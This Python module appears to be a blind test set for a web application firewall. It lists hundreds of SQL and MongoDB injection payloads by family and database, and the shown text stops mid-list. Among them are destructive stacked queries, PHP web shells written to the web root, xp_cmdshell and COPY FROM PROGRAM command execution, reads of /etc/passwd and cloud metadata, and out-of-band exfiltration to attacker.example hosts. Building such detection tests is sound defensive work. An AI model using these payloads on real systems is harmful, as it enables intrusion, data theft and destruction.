"""Blind set "hundredfiftyfirst": SQL injection written the way disclosed bug-bounty reports show it, with benign
requests that carry the same words innocently.

The angle: the proof of concept a hunter pastes into a publicly disclosed report (HackerOne / Bugcrowd / vendor
advisory style, recalled from memory, never looked up) against a real web application: a search box, a profile
field, a sort or filter parameter, a redirect or callback value, an import URL, an attachment name, a JSON API body
or a header. Such payloads are short and practical and often wrapped in the application's context: a value that
closes the app's quote or bracket, a field that already holds a legitimate prefix (an e-mail address, a date, an
order number, a product name) followed by the payload, and frequently the hunter's second try after a first filter
(other case, inline comments, encodings, a different function or another database's dialect). Each list's comment
names the family and the target database (MySQL / MariaDB, PostgreSQL, Microsoft SQL Server, Oracle, SQLite,
MongoDB).

Families (category sqli; one sub-family per detection title, as remembered):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep / benchmark / pg_sleep / waitfor), error-based (extractvalue / updatexml / convert /
  cast), out-of-band (load_file / into outfile / xp_dirtree / utl_http / dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring / ascii / char / concat),
  sql-authentication-bypass, nosql-injection (Mongo operators, $where), hex-char-encoding,
  stored-procedure-xp-cmdshell, having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, X-Forwarded-For, a parameter
name, an XML body, a multipart field, an upload's file name, the URL path), once the way a WAF regression suite
sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1), as a query
string, form body, JSON body, XML body, a raw form-typed body that is not key=value, or in User-Agent, Referer, a
custom header or a cookie. MongoDB operator injections go the way hunters send them: whole JSON documents as the
JSON body, and `field[$op]=value` pairs unquoted in the query string or form body.

Authorship and independence: written for this repository from general knowledge of SQL and NoSQL injection and
the detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read,
and no report was looked up. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredfiftyfirst"

# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: the first probe a hunter pastes into a search box or an id parameter, often after the app's
# own value (MySQL / MariaDB unless the comment says otherwise)
LIBINJECTION = [
    "sneakers' and '1'='1",
    "sneakers' and '1'='2",
    "1' or '1'='1' -- ",
    "1\" or \"1\"=\"1\" -- ",
    "') or ('1'='1",
    "\") or (\"a\"=\"a",
    "-1 or 2>1",
    "999999' or 1 -- -",
    "1' and 0 -- -",
    "x' or 'x'='x",
    "10 and (select 1)=1",
    "10' and (select 'a')='a",
    "1' xor 1 -- -",
    "0'xor(if(1=1,1,0))xor'z",
    "1' div 1 -- -",
    "test'-'0",
    "1 and true",
    "1' and true#",
    "1' limit 1 -- -",
    "1' like '1",
    "1' ; --",
    "invoice-2291' or 1 #",
    "ana.silva@example.com' and 1 -- ",
    "2024-03-15') or 1=1 -- ",
    "1) and (1)=(1",
    "1 rlike 1",
    "' or @@version -- -",
    "'-0-'",
]

# sql-tautology/boolean: the true/false pair a hunter puts in the report to show the response differs
# (MySQL, PostgreSQL, MSSQL, SQLite: plain SQL that every engine accepts)
TAUTOLOGY = [
    "john.doe@example.com' or '1'='1",
    "2023-12-31' OR 1=1 -- -",
    "ORD-10023' OR 'a'='a' -- ",
    "1 OR 1=1 -- ",
    "1) OR (1=1) -- ",
    "1')) OR (('1'='1",
    "x' OR 2>1 #",
    "x' OR 'abc' LIKE 'a%' -- ",
    "' OR true -- -",
    "' || 1=1 -- -",
    "' OR '1'<>'2",
    "\" OR 1=1 LIMIT 1 -- ",
    "42' AND 1=1 -- -",
    "42' AND 1=2 -- -",
    "42 AND 5=5",
    "42 AND 5=6",
    "1' AND 'foo'='foo",
    "Smith' OR 1 -- ",
    "' OR 'x'!='y' -- ",
    "' or not 1=2 -- -",
    "1 OR 'a'='a'",
    "alice' OR ''='",
    "%' OR 1=1 AND '%'='",
    "' OR EXISTS(SELECT 1) -- ",
    "1 OR 1 IS NOT NULL",
    "' OR 3-2=1 -- ",
    "Berlin' AND 7=7 AND 'q'='q",
    "Berlin' AND 7=8 AND 'q'='q",
]

# sql-comment-sequence: closing the app's quote and commenting the rest of its query out (MySQL `#` and `-- `,
# PostgreSQL / MSSQL / Oracle / SQLite `--` and `/* */`)
COMMENT_SEQ = [
    "admin'/*",
    "admin'#",
    "1'-- -",
    "1' -- x",
    "1;--",
    "1'/**/or/**/1=1/**/--",
    "1'/*comment*/OR/*x*/'1'='1",
    "x';#",
    "1'--+",
    "1) -- -",
    "1')-- -",
    "1\"))-- -",
    "1'; -- ",
    "' or 1=1 /*",
    "1 /* */ AND /* */ 1=1",
    "' or 1=1 -- //",
    "1'#\n or 1=1#",
    "1'--\r\n OR '1'='1",
    "1 ;-- ",
    "jane@example.org'-- ",
    "2024-05-01'/*",
    "x' or 1=1;--",
    "id'/**/--/**/-",
    "' --",
    "1' AND 1=1 ;#",
    "1'/*!*/--",
    "PRJ-7731'))/*",
    "Müller' -- ",
]

# union-select: the column-count and data-extraction PoCs (MySQL, PostgreSQL, MSSQL, Oracle, SQLite)
UNION = [
    "-1 UNION SELECT 1,2,3-- -",
    "-1' UNION SELECT null,null,null-- -",
    "0' UNION ALL SELECT @@version,NULL-- -",
    "1' UNION SELECT username,password FROM users-- -",
    "1 UNION SELECT user(),database(),version()",
    "' UNION SELECT 1,group_concat(email,0x3a,password_hash),3 FROM users-- -",
    "1) UNION SELECT NULL,current_user-- ",
    "-5 union distinct select 1,2,3,4,5",
    "' union select null,banner from v$version-- ",
    "' UNION SELECT NULL,NULL FROM dual-- ",
    "1' UNION SELECT 1,@@hostname,3#",
    "'))) UNION SELECT 1,2#",
    "' UNION SELECT sqlite_version(),NULL-- ",
    "1 UNION SELECT NULL,version()::text-- ",
    "-1' UniOn SeLeCt 1,2,3-- -",
    "1 union(select 1,2,3)",
    "1'union(select(1),(2),(3))#",
    "x' UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b-- -",
    "1 UNION ALL SELECT NULL,CONCAT(0x7171,user(),0x7171)-- -",
    "test' UNION SELECT NULL,@@datadir-- -",
    "' UNION SELECT 1,(SELECT string_agg(usename,',') FROM pg_user)-- ",
    "1 UNION SELECT TOP 1 name,NULL FROM sysobjects-- ",
    "') UNION SELECT 'a','b' -- ",
    "' union select 1,2,3 limit 1 offset 0-- ",
    "hoodie' UNION SELECT NULL,email FROM customers-- -",
    "carlos@example.net' UNION SELECT 1,reset_token FROM password_resets-- -",
    "1 UNION SELECT 1,2 FROM DUAL WHERE 1=1",
    "-7 UNION SELECT ALL 1,user,3 FROM mysql.db",
]

# stacked-queries: a second statement after `;` (MSSQL, PostgreSQL, MySQL with multi-statements, SQLite)
STACKED = [
    "1; DROP TABLE users-- ",
    "1'; DROP TABLE sessions; -- ",
    "x'; UPDATE users SET role='admin' WHERE email='me@attacker.example'-- ",
    "1; INSERT INTO users(email,role) VALUES('h1@wearehackerone.com','admin')-- ",
    "'; SHUTDOWN WITH NOWAIT-- ",
    "1'; CREATE TABLE pwn(t text); -- ",
    "1'; DELETE FROM audit_log-- ",
    "1'; TRUNCATE TABLE orders;--",
    "'; ALTER USER postgres PASSWORD 'bounty'-- ",
    "1;DECLARE @q varchar(99);SET @q='SELECT 1';EXEC(@q)-- ",
    "1'; GRANT ALL PRIVILEGES ON *.* TO 'h'@'%'-- ",
    "1;SET @a=1;PREPARE s FROM 'SELECT 1';EXECUTE s;-- ",
    "1; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.p(d text);"
    " INSERT INTO x.p VALUES('<?php system($_GET[0]);?>');-- ",
    "1'; CREATE USER bounty WITH SUPERUSER PASSWORD 'x'-- ",
    "1; RENAME TABLE users TO users_old-- ",
    "1'; LOCK TABLES users WRITE-- ",
    "Robert'); DROP TABLE Students;-- ",
    "1; UPDATE accounts SET balance=999999 WHERE id=1337",
    "a'); INSERT INTO admins VALUES ('bh','x');--",
    "1;select 1;select 2",
    "1';CREATE OR REPLACE FUNCTION x() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql;--",
    "1; SELECT * INTO backup_users FROM users-- ",
    "1'; DROP DATABASE app; --",
    "2024-06-01'; UPDATE subscriptions SET plan='enterprise'-- ",
    "team-42'; DELETE FROM invitations WHERE 1=1-- ",
    "1;UPDATE users SET password='$2y$10$abcdefghijklmnopqrstuv' WHERE id=1;--",
    "'; INSERT INTO api_keys(user_id,key) VALUES(1,'bb-poc')-- ",
    "1'; ALTER TABLE users ADD COLUMN pwned int-- ",
]

# time-based-blind: sleep / benchmark / pg_sleep / waitfor / dbms_pipe / randomblob (MySQL, PostgreSQL, MSSQL,
# Oracle, SQLite)
TIME = [
    "1' AND SLEEP(5)-- -",
    "1 AND SLEEP(5)",
    "' OR SLEEP(5)#",
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
    "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
    "if(now()=sysdate(),sleep(6),0)",
    "1 AND BENCHMARK(5000000,MD5(1))",
    "' OR BENCHMARK(10000000,SHA1('x'))-- ",
    "1'; SELECT pg_sleep(5)-- ",
    "1' AND 1=(SELECT 1 FROM pg_sleep(5))-- ",
    "1)||pg_sleep(5)--",
    "'||(SELECT pg_sleep(10))||'",
    "1; WAITFOR DELAY '0:0:5'-- ",
    "1' WAITFOR DELAY '00:00:05'-- ",
    "');WAITFOR TIME '23:59:59'--",
    "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)",
    "' AND 123=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),10)-- ",
    "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))",
    "a@b.co' AND (SELECT * FROM (SELECT(SLEEP(7)))x)-- ",
    "2024-01-01' AND SLEEP(3) AND '1'='1",
    "\"XOR(if(now()=sysdate(),sleep(5),0))XOR\"",
    "sleep(5)#",
    "1' AND IF(SUBSTRING(user(),1,1)='r',SLEEP(5),0)-- -",
    "1' RLIKE SLEEP(5)-- -",
    "(select(0)from(select(sleep(5)))v)/*'+(select(0)from(select(sleep(5)))v)+'\"+"
    "(select(0)from(select(sleep(5)))v)+\"*/",
    "1'%2b(select*from(select(sleep(5)))a)%2b'",
    "';SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
    "'; BEGIN DBMS_LOCK.SLEEP(5); END;-- ",
]

# error-based: extractvalue / updatexml / floor(rand) / convert / cast leaking data in the error page
# (MySQL, MSSQL, PostgreSQL, Oracle)
ERROR = [
    "1' AND extractvalue(1,concat(0x7e,version()))-- -",
    "1 AND updatexml(1,concat(0x7e,(SELECT user())),1)",
    "' AND EXTRACTVALUE(rand(),CONCAT(0x3a,(SELECT database())))-- ",
    "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables"
    " GROUP BY x)a)-- -",
    "1 AND exp(~(SELECT * FROM (SELECT user())a))",
    "1' AND GTID_SUBSET(CONCAT(0x7e,@@version),1)-- -",
    "1' AND JSON_KEYS((SELECT CONVERT((SELECT user()) USING utf8)))-- -",
    "' AND 1=CONVERT(int,@@version)-- ",
    "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))",
    "' AND 1=CAST(@@version AS int)-- ",
    "1' AND 1=CAST((SELECT version()) AS int)-- ",
    "' AND 1=CAST(current_user AS numeric)-- ",
    "' AND 1=ctxsys.drithsx.sn(1,(SELECT user FROM dual))-- ",
    "' AND 1=utl_inaddr.get_host_name((SELECT banner FROM v$version WHERE rownum=1))-- ",
    "1 AND 1=XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))",
    "' AND polygon((select*from(select*from(select user())a)b))-- ",
    "1' AND multipoint((select*from(select*from(select@@version)f)x))-- -",
    "1 AND ST_LatFromGeoHash(version())",
    "' AND 1 IN (SELECT @@version)-- ",
    "1' AND row(1,1)>(SELECT COUNT(*),CONCAT(user(),0x3a,FLOOR(RAND(0)*2))x FROM (SELECT 1 UNION SELECT 2)a"
    " GROUP BY x LIMIT 1)-- -",
    "'||(select cast(chr(126)||version() as int))||'",
    "1 and (select 1 from (select name_const(version(),1),name_const(version(),1))a)",
    "1'+CONVERT(int,db_name())+'",
    "search') AND updatexml(null,concat(0x0a,(select table_name from information_schema.tables limit 1)),null)-- -",
    "' AND extractvalue(1,concat(0x5c,(select password from users limit 1)))#",
    "1 and 1=cast((select string_agg(datname,',') from pg_database) as int)",
    "mark@example.com' AND updatexml(1,concat(0x7e,@@hostname),1)#",
    "' AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT banner FROM v$version WHERE rownum=1)||CHR(62)))"
    " FROM dual)-- ",
]

# out-of-band: file read / write and DNS or HTTP callbacks to the hunter's collaborator host
# (MySQL load_file / into outfile, MSSQL xp_dirtree / openrowset, Oracle utl_http / dbms_ldap, PostgreSQL dblink /
# copy / pg_read_file, SQLite readfile)
OOB = [
    "1' UNION SELECT LOAD_FILE('/etc/passwd')-- -",
    "1' AND LOAD_FILE(CONCAT(0x5c5c5c5c,(SELECT @@version),'.x1.oast.example\\\\a'))-- -",
    "' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/c.php'-- -",
    "1 INTO DUMPFILE '/tmp/x.so'",
    r"'; EXEC master..xp_dirtree '\\abc.oast.example\a'-- ",
    r"1; EXEC master.dbo.xp_fileexist '\\h.oast.example\x'--",
    r"'; declare @q varchar(1024); set @q='\\'+(select top 1 name from sys.databases)+'.dns.example\x';"
    " exec master.dbo.xp_dirtree @q;-- ",
    "' AND 1=UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual))-- ",
    "' || UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.oob.attacker.example')-- ",
    "' AND 1=(SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM"
    " \"http://oob.attacker.example/\">%x;]>'),'/l') FROM dual)-- ",
    "1; SELECT dblink_connect('host=oob.attacker.example user=a password=b dbname=c')-- ",
    "'; COPY (SELECT '') TO PROGRAM 'nslookup x.oob.attacker.example'-- ",
    "1'; SELECT * FROM dblink('host='||(SELECT current_user)||'.oob.attacker.example user=x dbname=x',"
    "'SELECT 1') RETURNS (r int)-- ",
    "1 UNION SELECT pg_read_file('/etc/passwd',0,200)-- ",
    "'; COPY users TO '/tmp/users.csv'-- ",
    "1' UNION SELECT lo_import('/etc/passwd')-- ",
    "1 AND (SELECT DBMS_LDAP.INIT('oob.attacker.example',80) FROM dual) IS NOT NULL",
    "' UNION SELECT HTTPURITYPE('http://oob.attacker.example/x').GETCLOB() FROM dual-- ",
    "'; SELECT * FROM OPENROWSET('SQLOLEDB','server=oob.attacker.example;uid=sa;pwd=x','select 1')-- ",
    r"1;EXEC('master..xp_subdirs ''\\'+@@servername+'.oob.example\a''')",
    "1' AND (SELECT LOAD_FILE('/var/www/.env')) IS NOT NULL-- -",
    "x' UNION SELECT 1,LOAD_FILE(0x2f6574632f686f737473)-- -",
    r"1; BULK INSERT tmp FROM '\\oob.attacker.example\share\x.txt'-- ",
    "1' UNION SELECT readfile('/etc/passwd')-- ",
    r"1 INTO OUTFILE '\\\\oob.attacker.example\\share\\o.txt'",
    "' OR 1=1 INTO OUTFILE '/var/lib/mysql-files/dump.txt'-- ",
    "webhook-test' UNION SELECT LOAD_FILE('/proc/self/environ'),2-- -",
    "1' AND (SELECT UTL_HTTP.REQUEST('http://169.254.169.254/latest/meta-data/') FROM dual) IS NOT NULL-- ",
]

# information-schema / catalog probing: listing tables, columns, users and hashes
# (MySQL information_schema / mysql.user, PostgreSQL pg_catalog, MSSQL sys.*, Oracle all_*, SQLite sqlite_master)
CATALOG = [
    "' UNION SELECT table_name,NULL FROM information_schema.tables WHERE table_schema=database()-- -",
    "1 UNION SELECT column_name,2 FROM information_schema.columns WHERE table_name='users'",
    "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0-- -",
    "' UNION SELECT group_concat(schema_name),2 FROM information_schema.schemata-- -",
    "' UNION SELECT tablename,NULL FROM pg_tables WHERE schemaname='public'-- ",
    "1 UNION SELECT relname,NULL FROM pg_class-- ",
    "' UNION SELECT usename,passwd FROM pg_shadow-- ",
    "' UNION SELECT NULL,datname FROM pg_database-- ",
    "' UNION SELECT name,NULL FROM sys.tables-- ",
    "' UNION SELECT name,NULL FROM sysobjects WHERE xtype='U'-- ",
    "1 UNION SELECT name,NULL FROM syscolumns WHERE id=OBJECT_ID('users')-- ",
    "' UNION SELECT table_name,NULL FROM all_tables-- ",
    "' UNION SELECT owner,table_name FROM all_tab_columns WHERE column_name LIKE '%PASS%'-- ",
    "' UNION SELECT username,NULL FROM all_users-- ",
    "' UNION SELECT name,sql FROM sqlite_schema-- ",
    "' UNION SELECT name,sql FROM sqlite_master WHERE type='table'-- ",
    "1 and (select count(*) from sqlite_master where tbl_name='users')=1",
    "' UNION SELECT user,authentication_string FROM mysql.user-- -",
    "' UNION SELECT NULL,table_name FROM information_schema.views-- ",
    "1' AND (SELECT SUBSTRING(table_name,1,1) FROM information_schema.tables WHERE table_schema=database()"
    " LIMIT 0,1)='u'-- -",
    "' UNION SELECT NULL,routine_name FROM information_schema.routines-- ",
    "1 UNION SELECT privilege_type,grantee FROM information_schema.user_privileges",
    "' UNION SELECT database_name,table_name FROM mysql.innodb_table_stats-- -",
    "1; SELECT * FROM INFORMATION_SCHEMA.PROCESSLIST-- ",
    "' AND 1=(SELECT COUNT(*) FROM sys.sql_logins)-- ",
    "' UNION SELECT name,NULL FROM master..sysdatabases-- ",
    "' UNION SELECT proname,prosrc FROM pg_proc-- ",
    "x' UNION SELECT NULL,table_schema FROM information_schema.tables GROUP BY table_schema-- -",
]

# mysql-comment-obfuscation: version comments and inline comments a hunter uses after the first payload was
# filtered (MySQL / MariaDB executable comments; inline `/**/` also for PostgreSQL and SQLite)
MYSQL_COMMENT = [
    "1 /*!UNION*/ /*!SELECT*/ 1,2,3",
    "1'/*!50000UNION*//*!50000SELECT*/1,2-- -",
    "-1' /*!12345UnIoN*/ /*!12345sElEcT*/ 1,user()-- -",
    "1'/*!OR*/1=1-- -",
    "1/**/UNION/**/SELECT/**/NULL,NULL",
    "1'/**/AND/**/SLEEP(5)#",
    "1 UN/**/ION SEL/**/ECT 1,2",
    "' /*!or*/ '1'='1",
    "1'/*!00000AND*/ 1=1 -- -",
    "' or 1=1/*!*/-- -",
    "1'/*!40000ORDER BY*/ 3#",
    "1'/*!50000and*/(/*!50000select*/ 1)=1-- -",
    "admin'/*!*/#",
    "1/*!50000or*//*!50000sleep*/(5)",
    "1 /*!32302 AND 1=1*/",
    "'/*!50000UNION*/ALL/*!50000SELECT*/ NULL,@@version#",
    "1' /*!30000union all select*/ 1,2,3#",
    "-1/*!union*/select/*!1,2,3*/",
    "1'/*foo*/UNION/*bar*/SELECT/*baz*/1,2-- -",
    "1' /*!UNION*/ /*!ALL*/ /*!SELECT*/ table_name FROM information_schema.tables-- -",
    "1' AND/*!50000IF*/(1=1,SLEEP(3),0)-- -",
    "' /*!50000OR*/ 1 /*!LIKE*/ 1 -- -",
    "1 UNION#foo\nSELECT 1,2",
    "1 union-- x\nselect 1,2",
    "1'/*!00000union*/(/*!00000select*/1,2)-- -",
    "1 /*!union*//*!distinct*//*!select*/ 1,2",
    "x' /*!50000GROUP BY*/ 1-- -",
    "2023-09-09'/*!50000OR*/'a'='a",
]

# function-based-probing: substring / ascii / char / concat / length character-by-character extraction
# (MySQL, MSSQL, PostgreSQL, Oracle, SQLite)
FUNCTION = [
    "1' AND SUBSTRING(version(),1,1)='8'-- -",
    "1 AND ASCII(SUBSTRING((SELECT database()),1,1))>100",
    "1' AND ORD(MID(user(),1,1))=114-- -",
    "' AND LENGTH(database())=6-- -",
    "1 AND CHAR_LENGTH(@@version)>5",
    "' AND SUBSTR((SELECT password FROM users WHERE username='admin'),1,1)='a'-- ",
    "1' AND CONCAT('a','b')='ab'-- -",
    "1 AND CHAR(97)='a'",
    "' AND (SELECT ASCII(SUBSTR(banner,1,1)) FROM v$version WHERE ROWNUM=1)=79-- ",
    "1 AND LEFT(version(),1)=5",
    "' AND RIGHT(database(),1)='p'-- -",
    "1' AND UNICODE(SUBSTRING(DB_NAME(),1,1))=109-- ",
    "' AND LEN(@@version)>10-- ",
    "1 AND MID(@@version,1,1)='5'",
    "1' AND BIT_LENGTH(user())>0-- -",
    "'||CHR(65)||CHR(66)||'",
    "' AND (SELECT CONCAT_WS(0x3a,user(),database()))-- -",
    "1 AND STRCMP(SUBSTRING(user(),1,1),'r')=0",
    "1 AND LOCATE('root',user())=1",
    "' AND INSTR(version(),'Maria')>0-- -",
    "1' AND POSITION('P' IN version())=1-- ",
    "' AND (SELECT substr(sqlite_version(),1,1))='3'-- ",
    "' AND MAKE_SET(1,user()) LIKE 'r%'-- -",
    "1 AND CONV(HEX(SUBSTR(user(),1,1)),16,10)=114",
    "' AND (SELECT COALESCE(NULL,current_user))='postgres'-- ",
    "1' and lower(substr(current_database(),1,1))='a'--",
    "' AND REVERSE(database())='ppa'-- -",
    "lucas@example.com' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -",
]

# sql-authentication-bypass: what a hunter types into a login, SSO e-mail or password-reset field
# (MySQL, MSSQL, PostgreSQL, SQLite login queries)
AUTH = [
    "admin'--",
    "admin' #",
    "' or 1=1--",
    "' OR '1'='1'--",
    "admin' or '1'='1",
    "administrator'-- -",
    "admin@example.com'--",
    "support@company.com' OR 1=1 LIMIT 1-- -",
    "' OR 1=1 LIMIT 1 OFFSET 1-- ",
    "admin') -- ",
    "admin\")-- ",
    "' or ''='",
    "anything' OR 'x'='x",
    "1' OR '1'='1' /*",
    "' UNION SELECT 1,'admin','5f4dcc3b5aa765d61d8327deb882cf99',1-- ",
    "admin' AND 1=1#",
    "' OR username LIKE 'admin%'-- ",
    "' or 1=1 order by id limit 1#",
    "\" or \"\"=\"",
    "' OR 1=1 AND role='admin'-- ",
    "' OR email IS NOT NULL-- ",
    "root'-- -",
    "admin'||'",
    "'='",
    "'=''or'",
    "1'or'1'='1",
    "') OR ('a'='a') -- ",
    "owner@tenant.example' OR 'x'='x'#",
]

# nosql-injection: MongoDB operator injection ($ne, $gt, $regex, $in, $where) in JSON bodies, in Express / PHP
# bracket syntax, and in server-side JavaScript strings evaluated by $where
NOSQL: list[str | tuple[str, str, str]] = [
    ('{"username": {"$ne": null}, "password": {"$ne": null}}', "json-body", "rs-json-body"),
    ('{"email": "admin@example.com", "password": {"$gt": ""}}', "json-body", "rs-json-body"),
    ('{"username": {"$regex": "^adm"}, "password": {"$ne": "x"}}', "json-body", "rs-json-body"),
    ('{"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$gt": ""}}', "json-body",
     "rs-json-body"),
    ('{"$where": "this.password.length > 0"}', "json-body", "rs-json-body"),
    ('{"username": "admin", "password": {"$regex": "^a.*"}}', "json-body", "rs-json-body"),
    ('{"q": {"$where": "sleep(5000) || true"}}', "json-body", "rs-json-body"),
    ('{"filter": {"$or": [{}, {"a": "a"}]}}', "json-body", "rs-json-body"),
    ('{"token": {"$exists": true}}', "json-body", "rs-json-body"),
    ('{"reset_token": {"$nin": [""]}}', "json-body", "rs-json-body"),
    ('{"id": {"$gt": -1}}', "json-body", "rs-json-body"),
    ('{"$expr": {"$eq": [1, 1]}}', "json-body", "rs-json-body"),
    ('{"email": {"$regex": ".*@example\\\\.com$"}, "otp": {"$ne": "000000"}}', "json-body", "rs-json-body"),
    ('{"username": "admin", "password": {"$not": {"$eq": "wrong"}}}', "json-body", "rs-json-body"),
    ("username[$ne]=toto&password[$ne]=toto", "query", "rs-form"),
    ("user[$regex]=.*&pass[$ne]=1", "form", "rs-query"),
    ("email[$gt]=&password[$gt]=", "query", "rs-raw-body"),
    ("login[$nin][]=admin&password[$ne]=x", "form", "rs-query"),
    ("id[$where]=sleep(5000)", "query", "rs-form"),
    ("search[$regex]=^.*", "form", "rs-query"),
    ("' || '1'=='1", "json", "rs-query"),
    ("'; return true; var x='", "query", "rs-json"),
    ("' && this.password.match(/^a/)//", "form", "rs-form"),
    ("1; sleep(5000)", "json", "rs-xml"),
    ("'||this.role=='admin'||'", "cookie", "rs-cookie"),
    ("{\"$gt\":\"\"}", "query", "rs-form"),
    ("', $or: [ {}, { 'a':'a", "json", "rs-query"),
    ("'; while(true){}; '", "form", "rs-json"),
]

# hex/char encoding: hex literals, CHAR()/CHR()/NCHAR() concatenation, unhex, double URL-encoding, MSSQL
# hex-cast EXEC (MySQL, MSSQL, PostgreSQL, Oracle, SQLite)
ENCODING = [
    "1 UNION SELECT 0x61646d696e,2",
    "' OR username=0x61646d696e-- -",
    "1' AND user()=0x726f6f74406c6f63616c686f7374-- -",
    "1 UNION SELECT CHAR(114,111,111,116),2",
    "' OR 1=1 AND table_name=0x7573657273-- -",
    "1' AND SUBSTRING(user(),1,1)=CHAR(114)-- -",
    "' UNION SELECT NULL,CHR(112)||CHR(119)||CHR(110)-- ",
    "1; EXEC(0x73656c65637420404076657273696f6e)-- ",
    "1;DECLARE @S NVARCHAR(4000);SET @S=CAST(0x530045004c00450043005400200040004000760065007200730069006f006e00"
    " AS NVARCHAR(4000));EXEC(@S);--",
    "' UNION SELECT UNHEX('3c3f70687020706870696e666f28293b203f3e'),2 INTO OUTFILE '/var/www/html/i.php'-- -",
    "1' AND 0x31=0x31-- -",
    "' OR X'61'='a'-- ",
    "'||CHR(39)||' OR 1=1--",
    "1 UNION SELECT NCHAR(65)+NCHAR(66),2-- ",
    "1 AND ASCII(0x41)=65",
    "1' UNION SELECT b'1100001',2-- -",
    "%27%20OR%201%3D1--%20",
    "1%27%20UNION%20SELECT%201%2C2--%20",
    "1 UNION SELECT CONCAT(CHAR(60),CHAR(115),CHAR(99),CHAR(114),CHAR(105),CHAR(112),CHAR(116),CHAR(62)),2",
    "' OR 'a'=CHAR(0x61)-- -",
    "1' AND HEX(database())='617070'-- -",
    "1 UNION SELECT CAST(X'3c3f706870' AS TEXT),2",
    "1' UNION SELECT convert_from(decode('cm9vdA==','base64'),'UTF8'),NULL-- ",
    "'; EXEC(CHAR(83)+CHAR(69)+CHAR(76)+CHAR(69)+CHAR(67)+CHAR(84)+CHAR(32)+CHAR(49))-- ",
    "' UNION SELECT 1,UNHEX(HEX(@@version))-- -",
    "1; SELECT CHR(115)||CHR(101)||CHR(108)||CHR(101)||CHR(99)||CHR(116)-- ",
    "admin' AND password=0x3566346463633362356161373635643631643833323764656238383263663939-- -",
    "1;DECLARE @T NVARCHAR(200);SET @T=CAST(0x570041004900540046004f0052002000440045004c00410059002000270030003a"
    "0030003a0035002700 AS NVARCHAR(200));EXEC(@T)--",
]

# stored-procedure / xp_cmdshell: command execution and privilege changes through stored procedures and UDFs
# (MSSQL xp_cmdshell / sp_OACreate / sp_configure, PostgreSQL C functions, MySQL UDFs, Oracle DBMS_*, SQLite
# load_extension)
STORED_PROC = [
    "'; EXEC xp_cmdshell 'whoami'-- ",
    "1; EXEC master..xp_cmdshell 'ping -n 3 oob.attacker.example'-- ",
    "1'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1;"
    " RECONFIGURE;-- ",
    "'; exec master.dbo.xp_cmdshell 'powershell -c iwr http://oob.attacker.example/p'--",
    "1;DECLARE @o INT;EXEC sp_OACreate 'WScript.Shell',@o OUT;EXEC sp_OAMethod @o,'Run',NULL,'cmd /c whoami'--",
    "'; EXEC sp_addsrvrolemember 'bh','sysadmin'-- ",
    r"1; EXEC xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\CurrentControlSet\Services\MSSQLSERVER','ObjectName'-- ",
    "'; EXEC sp_executesql N'SELECT @@version'-- ",
    "1; EXEC sp_password NULL,'bounty','sa'-- ",
    "'; EXEC xp_servicecontrol 'start','schedule'-- ",
    r"1;EXEC sp_makewebtask '\\oob.attacker.example\x\o.html','SELECT * FROM users'--",
    "';EXEC xp_availablemedia--",
    "'; EXEC sp_linkedservers-- ",
    "1'; EXEC('sp_addlinkedserver ''oob.attacker.example''')-- ",
    "'; EXECUTE AS LOGIN='sa'; EXEC xp_cmdshell 'id'-- ",
    "1; EXEC xp_enumgroups-- ",
    "1'; EXEC master.dbo.sp_addlogin 'bh','P@ssw0rd!'-- ",
    "1; CREATE TABLE c(o text); COPY c FROM PROGRAM 'whoami'; SELECT * FROM c-- ",
    "'; CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE C"
    " STRICT-- ",
    "1' AND sys_eval('id')-- -",
    "'; CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'-- ",
    "' AND 1=DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/bash -c id')-- ",
    "1' || DBMS_XMLQUERY.newcontext('declare PRAGMA AUTONOMOUS_TRANSACTION; begin execute immediate"
    " ''create user bh identified by x''; commit; end;') || '",
    "'; EXEC DBMS_SCHEDULER.create_job(job_name=>'x',job_type=>'EXECUTABLE',job_action=>'/bin/id',"
    "enabled=>TRUE)-- ",
    "1; SELECT load_extension('/tmp/evil.so')-- ",
    r"1;exec('xp_cm'+'dshell ''dir c:\''')--",
